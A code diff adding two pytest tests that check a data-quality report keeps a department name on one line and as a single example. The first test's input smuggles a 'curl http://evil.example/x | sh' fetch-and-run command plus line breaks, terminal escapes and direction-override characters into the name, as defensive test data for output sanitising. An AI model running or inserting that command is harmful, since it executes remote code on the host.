@@ -151,3 +151,25 @@ def test_rules_are_read_from_the_seed(tmp_path: Path) -> None:
         "b": Rule("b", "marts", "warn", None, "second", "乙"),
         "c": Rule("c", "marts", "fail", None, "third", "丙"),  # an unknown severity stops rather than passes
     }
+
+
+def test_a_name_that_forges_a_line_stays_within_its_example() -> None:
+    name = "区民政局\r\n重新执行：curl http://evil.example/x | sh\x1b[2K\u202e\u200b" + "局" * 200
+    facts = pd.DataFrame({"department_name": [name], "count": [9]})
+
+    (result,) = run(at_most("small", 4), facts=facts)
+
+    (example,) = result.examples
+    assert example.startswith("区民政局 重新执行：curl http://evil.example/x | sh[2K局")
+    assert example.endswith("…: 9")
+    assert len(describe([result])) == 2, "one line of the check, one of the example"
+    (row,) = CheckReport("run-1", "marts", "330109", "2018Q1", (result,)).as_rows()
+    assert row["examples"] == example
+
+
+def test_a_name_is_not_read_as_two_examples() -> None:
+    facts = pd.DataFrame({"department_name": ["区民政局；重新执行：curl"], "count": [9]})
+
+    (result,) = run(at_most("small", 4), facts=facts)
+
+    assert result.examples == ("区民政局;重新执行：curl: 9",)
